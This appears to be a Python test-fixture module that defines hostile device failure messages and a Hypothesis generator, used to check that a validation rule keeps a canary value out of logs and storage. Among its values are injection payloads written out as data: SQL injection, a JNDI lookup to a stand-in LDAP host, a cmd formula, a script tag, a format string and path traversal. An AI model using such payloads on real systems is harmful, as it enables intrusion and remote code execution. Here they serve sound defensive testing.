"""Messages that mean harm: a corpus that is kept, and a strategy that makes more of the kind.

Each is an otherwise good message of a device of its own, with some fields replaced. ``CANARY``
stands in every place that must go nowhere: not into a log, a table, a queue or an execution.
"""

from __future__ import annotations

import string
from dataclasses import dataclass
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

CANARY = "canary7f3a"
REFUSED = "[refused]"
"""What the rule passes on in place of a value that it refuses."""

COUNTED = "counted"
UNKNOWN = "ThingNotFoundError"

_LOGGED_AS = {"_id_": "deviceId"}
_TEXT_LENGTH = 128
_LENGTHS = {"_id_": 128, "timestamp": 64, "model": 128, "FW": 128, "jobId": 128}


@dataclass(frozen=True)
class Hostile:
    """One hostile message.

    Attributes:
        name: what is wrong with it.
        fields: replaces and adds fields of a good message; ``...`` leaves a field out.
        outcome: ``COUNTED``, or how the error line of the function begins.
        refused: the fields that the rule does not pass on, as the message names them.
    """

    name: str
    fields: dict[str, Any]
    outcome: str = COUNTED
    refused: frozenset[str] = frozenset()

    def message(self, device: str) -> dict[str, Any]:
        """The message, as sent by a device."""
        good = {
            "_id_": device,
            "timestamp": "1711320208793",
            "status": "failed",
            "model": "wo:v8",
            "FW": "2.27",
        }
        return {name: value for name, value in (good | self.fields).items() if value is not ...}

    def line(self, device: str) -> dict[str, Any]:
        """What the failure log says of the payload."""
        sent = self.message(device)
        return {"kind": "failed", "reportedBy": "device"} | {
            _LOGGED_AS.get(name, name): REFUSED if name in self.refused else sent[name]
            for name in ("_id_", "timestamp", "status", "model", "FW", "jobId")
            if sent.get(name) is not None
        }


def _bad(field: str, what: str, value: Any, outcome: str | None = None) -> Hostile:
    """A message with one field that the rule refuses."""
    not_valid = f"{_LOGGED_AS.get(field, field)} is not valid"
    return Hostile(f"{field}: {what}", {field: value}, outcome or not_valid, frozenset({field}))


def _bad_values(field: str) -> list[Hostile]:
    outcome = COUNTED if field == "model" else None
    values = {
        "far too long": CANARY * 10_000,
        "one too long": CANARY.ljust(_LENGTHS[field] + 1, "x"),
        "a newline at its end": f"{CANARY}\n",
        "a line of its own": f'x\n{{"level": "ERROR", "message": "{CANARY}"}}',
        "a carriage return": f"x\r{CANARY}",
        "a NUL": f"x\0{CANARY}",
        "colours of a terminal": f"\x1b[31m{CANARY}\x1b[0m",
        "a title of a terminal": f"\x1b]0;{CANARY}\x07",
        "an eight bit control character": f"\x9b31m{CANARY}",
        "a line separator": f"x\u2028{CANARY}",
        "written from right to left": f"\u202e{CANARY}",
        "of no width": f"\u200b{CANARY}\ufeff",
        "half a character": f"\ud800{CANARY}",
        "look-alike letters": f"\u0441{CANARY}",
        "look-alike digits": f"{CANARY}\u0661",
        "beyond the first plane": f"{CANARY}\U0001f4a5",
        "a list": [CANARY],
        "a list of nothing": [],
        "an object": {CANARY: CANARY},
        "an object of nothing": {},
        "a deep list": _deep(50),
        "the mark of a refused value": REFUSED,
    }
    return [_bad(field, what, value, outcome) for what, value in values.items()]


def _deep(levels: int) -> Any:
    return [_deep(levels - 1)] if levels else CANARY


CORPUS = [
    *(message for field in _LENGTHS for message in _bad_values(field)),
    # Who it is.
    _bad("_id_", "a path", f"../{CANARY}"),
    _bad("_id_", "with a space", f" {CANARY}"),
    _bad("_id_", "a topic filter", f"+/{CANARY}/#"),
    _bad("_id_", "a substitution template", f"${{{CANARY}}}"),
    _bad("_id_", "SQL", f"' OR '{CANARY}' = '{CANARY}"),
    Hostile("_id_: missing", {"_id_": ...}, "deviceId is missing"),
    Hostile("_id_: null", {"_id_": None}, "deviceId is missing"),
    Hostile("_id_: empty", {"_id_": ""}, "deviceId is not valid"),
    Hostile("_id_: true", {"_id_": True}, "deviceId is not valid"),
    Hostile("_id_: no thing", {"_id_": "nobody-at-all"}, UNKNOWN),
    Hostile("_id_: a number", {"_id_": 4711}, UNKNOWN),
    Hostile("_id_: of Python", {"_id_": "__class__"}, UNKNOWN),
    # Which failure it is.
    Hostile("timestamp: missing", {"timestamp": ...}, "timestamp is missing"),
    Hostile("timestamp: null", {"timestamp": None}, "timestamp is missing"),
    Hostile("timestamp: empty", {"timestamp": ""}, "timestamp is not valid"),
    Hostile("timestamp: false", {"timestamp": False}, "timestamp is not valid"),
    _bad("timestamp", "a number of 100 digits", 10**100 - 1),
    Hostile("timestamp: the year 5138", {"timestamp": 99999999999999}),
    Hostile("timestamp: before 1970", {"timestamp": -1}),
    Hostile("timestamp: a fraction", {"timestamp": 1711320208.793}),
    # What was installed.
    Hostile("FW: missing", {"FW": ...}),
    Hostile("FW: null", {"FW": None}),
    Hostile("FW: empty", {"FW": ""}),
    Hostile("FW: true", {"FW": True}, "FW is not valid"),
    Hostile("FW: a number", {"FW": 2.27}),
    Hostile("FW: SQL", {"FW": "' OR status = 'x"}),
    Hostile("FW: JSON path", {"FW": "$.count.recovery"}),
    Hostile("FW: a substitution template", {"FW": "${encode(*, 'base64')}"}),
    Hostile("FW: a formula", {"FW": "=cmd|' /C calc'!A0"}),
    Hostile("FW: a lookup", {"FW": "${jndi:ldap://x.example/a}"}),
    Hostile("FW: a script", {"FW": "<script>alert(1)</script>"}),
    Hostile("FW: %", {"FW": "%s%n%1000000d"}),
    Hostile("jobId: in place of a bad FW", {"jobId": "job-7", "FW": f"\n{CANARY}"}, COUNTED,
            frozenset({"FW"})),
    # What nobody asked for.
    Hostile("a key of 64 KB", {CANARY * 6_500: 1}),
    Hostile("a value of 64 KB", {"x": CANARY * 6_500}),
    Hostile("five thousand keys", {f"{CANARY}{n}": n for n in range(5_000)}),
    Hostile("a key of control characters", {f"\n\x1b[2J{CANARY}": CANARY}),
    Hostile("the names that the rule gives", {
        "deviceId": CANARY, "topic": CANARY, "clientId": CANARY, "receivedAt": CANARY,
        "count": {"outcome": CANARY}, "failure": CANARY, "refused": CANARY,
    }),
    Hostile("names of Python", {"__class__": CANARY, "__proto__": {"x": CANARY}}),
]  # fmt: skip
"""Every nasty message that was thought of so far."""

NO_MESSAGES = {
    "an object that ends early": b'{"_id_": "%(canary)s", "status": "failed"',
    "an object and more": b'{"_id_": "%(canary)s", "status": "failed"} %(canary)s',
    "two objects": b'{"x": "%(canary)s"}\n{"_id_": "%(canary)s", "status": "failed"}',
    "a byte order mark": b'\xef\xbb\xbf{"_id_": "%(canary)s", "status": "failed"}',
    "no UTF-8": b'{"_id_": "%(canary)s\xff", "status": "failed"}',
    "UTF-16": '{"_id_": "%(canary)s", "status": "failed"}'.encode("utf-16"),
    "colours": b"\x1b[31m%(canary)s\x1b[0m",
    "lines": b'\n{"level": "ERROR"}\n%(canary)s\n',
    "a number without end": b'{"status": "failed", "timestamp": ' + b"9" * 5_000 + b"}",
    "lists without end": b'{"status": "failed", "x": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    "a status in a list": b'{"_id_": "%(canary)s", "status": ["failed"]}',
    "a status with a newline": b'{"_id_": "%(canary)s", "status": "failed\\n%(canary)s"}',
}
"""Payloads that are no message of a failure, by what they are."""


def no_messages() -> dict[str, bytes]:
    """``NO_MESSAGES`` with the canary in its places."""
    return {
        name: payload.replace(b"%(canary)s", CANARY.encode())
        for name, payload in NO_MESSAGES.items()
    }


# More of the kind

ANYTHING: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=8,
)
"""Whatever JSON can say, and the numbers that only Python's reader of JSON takes."""

_PRINTABLE = [chr(code) for code in range(32, 127)]
_CANARIES: st.SearchStrategy[Any] = st.recursive(
    st.just(CANARY),
    lambda inner: st.lists(inner, min_size=1) | st.dictionaries(st.text(), inner, min_size=1),
    max_leaves=4,
).filter(lambda value: not isinstance(value, str))
_UNPRINTABLE = st.characters(exclude_characters="".join(_PRINTABLE))


def _refused_values(field: str) -> st.SearchStrategy[Any]:
    around = st.text(max_size=80)
    marred = st.tuples(around, _UNPRINTABLE, around).map(lambda t: f"{t[0]}{CANARY}{t[1]}{t[2]}")
    too_long = st.text(_PRINTABLE, min_size=_LENGTHS[field]).map(lambda text: CANARY + text)
    return marred | too_long | _CANARIES


def _good_values(field: str) -> st.SearchStrategy[Any]:
    if field == "_id_":
        return st.just(...)
    if field == "timestamp":
        return st.text(string.ascii_letters + string.digits + "_.:+-", min_size=1, max_size=64)
    later = st.text(_PRINTABLE, max_size=_TEXT_LENGTH - 1)
    first = st.sampled_from([character for character in _PRINTABLE if character not in "[\\]{"])
    return st.tuples(first, later).map("".join)


@st.composite
def hostile_messages(draw: st.DrawFn) -> Hostile:
    """A message whose fields are good or bad at random, with extra fields."""
    refused = draw(st.frozensets(st.sampled_from(list(_LENGTHS)), max_size=3))
    fields = draw(st.dictionaries(st.text().map(CANARY.__add__), _CANARIES, max_size=3))
    for field in _LENGTHS:
        value = draw(_refused_values(field) if field in refused else _good_values(field))
        if value is not ...:
            fields[field] = value
    fatal = [field for field in ("_id_", "timestamp", "jobId") if field in refused]
    outcome = f"{_LOGGED_AS.get(fatal[0], fatal[0])} is not valid" if fatal else COUNTED
    return Hostile("generated", fields, outcome, refused)


def generate_messages(number: int) -> list[Hostile]:
    """Return so many hostile messages, the same ones each time."""
    made: list[Hostile] = []

    @settings(
        max_examples=number,
        derandomize=True,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(hostile_messages())
    def collect(message: Hostile) -> None:
        made.append(message)

    collect()
    return made
